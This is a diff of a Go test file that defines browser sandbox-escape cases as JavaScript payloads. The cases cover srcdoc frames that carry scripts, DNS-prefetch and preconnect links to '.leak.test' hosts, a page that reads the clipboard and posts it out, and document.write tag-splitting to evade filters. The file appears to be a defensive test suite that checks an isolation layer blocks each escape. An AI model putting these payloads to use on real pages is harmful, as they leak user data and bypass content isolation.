@@ -1,20 +1,46 @@
-package e2e
+package attack
 
 import "strings"
 
 // frameOf is an attack by a frame whose text has a script of the bundle: it would have no bridge, and say that it ran.
-func frameOf(name, make string) attack {
-	return attack{"frame by " + name, `framed((TEXT) => { ` + make + ` })`, "silence"}
+func frameOf(name, make string) Attack {
+	return Attack{"frame by " + name, `framed(async (TEXT) => { ` + make + ` })`, "silence"}
 }
 
 // linkOf is an attack by a link that connects to a host, or looks up its name; what it did is seen at the host, and in the browser's log.
-func linkOf(name, make string) attack {
+func linkOf(name, make string) Attack {
 	host := strings.ReplaceAll(name, " ", "-")
-	return attack{"link by " + name, `linked("` + host + `", async (REL, TO, HTML) => { ` + make + ` })`, "nothing"}
+	return Attack{"link by " + name, `linked("` + host + `", async (REL, TO, HTML) => { ` + make + ` })`, "nothing"}
+}
+
+// Granted is the host that Sent is granted.
+const Granted = "http://map.example"
+
+// grantedPage tells the app around it what is on the clipboard, if it is told: it has no guard.
+const grantedPage = `<!doctype html><script>
+Promise.resolve().then(() => navigator.clipboard.readText()).then((text) => "READ " + text, () => "not told").then((what) => parent.postMessage(what, "*"));
+</script>`
+
+// Sent is how an app tells a name by a frame of a host that is granted to it, where the engine looks a name up before it asks a
+// policy.
+func Sent() Attack {
+	return Attack{"granted frame that is sent on", `(async () => {
+  const violated = [];
+  document.addEventListener("securitypolicyviolation", (e) => violated.push(e.violatedDirective, e.blockedURI));
+  const heard = new Promise((done) => { addEventListener("message", (e) => done(e.data)); setTimeout(() => done("the granted page says nothing " + violated), 20000) });
+  const f = add("iframe", { name: "map", src: "` + Granted + `/granted" });
+  if ((await heard) !== "not told") return f.localName + ": " + (await heard);
+  for (const go of [
+    () => (f.src = "http://sent1.leak.test/"), () => (window[window.length - 1].location = "http://sent2.leak.test/"), () => click({ href: "http://sent3.leak.test/", target: "map" }),
+    () => click({ href: "http://sent4.leak.test/", target: "map" }, true), () => sendForm("get", "http://sent5.leak.test/", "map"), () => open("http://sent6.leak.test/", "map"),
+    () => Native.open.call(window, "http://sent7.leak.test/", "map"), () => (f.src = "` + Granted + `/to?to=http://sent8.leak.test/"), () => add("iframe", { src: "http://sent9.leak.test/" }),
+  ]) { try { go() } catch (e) {} await wait() }
+  return wait("nothing");
+})()`, "nothing"}
 }
 
 // escapes are ways to a frame without the bridge, and to a link that connects: by HTML, by nodes, and by what makes either.
-var escapes = []attack{
+var escapes = []Attack{
 	frameOf("property", `add("iframe", { srcdoc: TEXT })`),
 	frameOf("attribute", `const f = add("iframe"); f.setAttribute("SrcDoc", TEXT)`),
 	frameOf("name that changes", `const f = add("iframe"); let n = 0; f.setAttribute({ toString: () => (n++ ? "srcdoc" : "title") }, TEXT); f.setAttribute({ toString: () => "srcdoc" }, TEXT)`),
@@ -56,6 +82,7 @@ var escapes = []attack{
 	{"frame by HTML", `(document.body.insertAdjacentHTML("beforeend", "<IFRAME name=x></IFRAME>"), document.body.append(new DOMParser().parseFromString("<iframe>", "text/html").body), String(window[0]))`, "undefined"},
 	{"frame by an object", `(add("object", { data: "about:blank", type: "text/html" }), add("embed", { src: "about:blank", type: "text/html" }), await wait(), String(window[0]))`, "undefined"},
 	{"frame by an empty object", `(add("object", { type: "text/html" }), await wait(), String(window[0]))`, "undefined"},
+	frameOf("object that goes", `for (const el of [add("object", { type: "text/html", data: "about:blank" }), add("embed", { type: "text/html", src: "about:blank" })]) { await wait(); for (let i = 0; i < window.length; i++) for (const to of [OUT + "/object2", base + "h5/page.svg", base + "h5/index.html", "data:text/html," + encodeURIComponent(TEXT), "javascript:" + JSON.stringify(TEXT)]) try { window[i].location = to; await wait() } catch (e) {} el.data = el.src = OUT + "/object3"; await wait() }`),
 	{"frames of the page's HTML", `JSON.stringify(ran)`, "[]"},
 	{"frame that is empty", `String(add("iframe").contentWindow.RTCPeerConnection)`, "TypeError"},
 	{"frame that is reached by its number", `(add("iframe", { name: "within" }), String(window[0].RTCPeerConnection))`, "TypeError"},
@@ -102,52 +129,3 @@ var escapes = []attack{
 	{"midi", `typeof navigator.requestMIDIAccess === "undefined" ? "refused" : navigator.requestMIDIAccess().then(() => "GIVEN", () => "refused")`, "refused"},
 	{"presentation", `typeof PresentationRequest === "undefined" ? "refused" : (new PresentationRequest(OUT + "/show"), "MADE")`, "SecurityError"},
 }
-
-// escapeScript is what the escapes are said by.
-const escapeScript = `
-const FRAME = (text) => "<iframe srcdoc='" + text + "'></iframe>";
-const framed = async (make) => {
-  ran.length = 0;
-  try { await make('<script src="' + base + 'h5/ran.js"><\/script>') } catch (e) { if (e.name === "SyntaxError") return e.message }
-  await wait();
-  document.querySelectorAll("iframe, object, embed").forEach((f) => f.remove());
-  return ran.length ? ran.splice(0).join(" ") : "silence";
-};
-const linked = async (name, make) => {
-  for (const REL of ["dns-prefetch", "preconnect"]) {
-    const TO = REL === "preconnect" ? OUT + "/" : "//" + name + ".leak.test/";
-    try { await make(REL, TO, '<link rel="' + REL + '" href="' + TO + '">') } catch (e) { if (e.name === "SyntaxError") return e.message }
-  }
-  return wait("nothing");
-};
-`
-
-// ranScript runs where there may be no bridge, and tells the page, and a host by datagrams.
-const ranScript = `parent.postMessage("RAN", "*");
-if (typeof RTCPeerConnection !== "undefined") (@PEER@)(window);`
-
-// writtenScript writes the page in parts, as it is read, which are names only together, and with what follows them in the page.
-const writtenScript = `window.ran = [];
-addEventListener("message", (e) => ran.push(String(e.data)));
-const text = '<script src="' + new URL("ran.js", location.href).href + '"><\/script>';
-document.write("<iframe src"); document.write("doc='" + text + "'></iframe>");
-document.write("<iframe ", "s"); document.writeln("rcdoc='", text, "'></iframe>");
-document.write("<iframe title='>'"); document.write(" SRCDO"); document.write("C='" + text + "'></iframe>");
-document.write("<iframe srcdoc"); document.write("='" + text + "'></iframe>");
-document.write("<lin"); document.write("k rel=dns-prefetch href=//written1.leak.test>");
-document.write("<"); document.write("link rel=dns-prefetch href=//written2.leak.test>");
-document.write("<link rel=dns-"); document.write("prefetch href=//written3.leak.test>");
-document.write("<link href=//written4.leak.test rel=preconnect>");
-document.write("<a title='");`
-
-// escapePage has what a page can have of it in its own HTML; @RAN@ is the address of the script that tells.
-const escapePage = `<script src="early.js"></script><!doctype html><title>Attack</title>
-<link rel="dns-prefetch" href="//static1.leak.test"><LINK HREF="//static2.leak.test" REL="icon pre&#99;onnect"/><link rel=prefetch href=@OUT@/static>
-<iframe srcdoc="&lt;script src='ran.js'>&lt;/script>"></iframe><svg><style><p><iframe srcdoc="<script src='ran.js'></script>"></iframe><link rel=dns-prefetch href=//static3.leak.test></style></svg>
-<script type="text/plain" id="rules">{"prefetch": [{"source": "list", "urls": ["@OUT@/ahead"]}], "prerender": [{"source": "list", "urls": ["@OUT@/ahead2"]}]}</script>
-<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["@OUT@/rules"]}]}</script>
-<h1>Attack</h1><body><script src="written.js"></script><textarea title="'><iframe srcdoc='<script src=ran.js></script>'></iframe><link rel=dns-prefetch href=//static4.leak.test>"></textarea>
-<script src="attack.js"></script>`
-
-// escapeDrawing is a document that is no page, and would have no bridge.
-const escapeDrawing = `<svg xmlns="http://www.w3.org/2000/svg"><script href="ran.js"/><link xmlns="http://www.w3.org/1999/xhtml" rel="dns-prefetch" href="//drawing.leak.test"/></svg>`
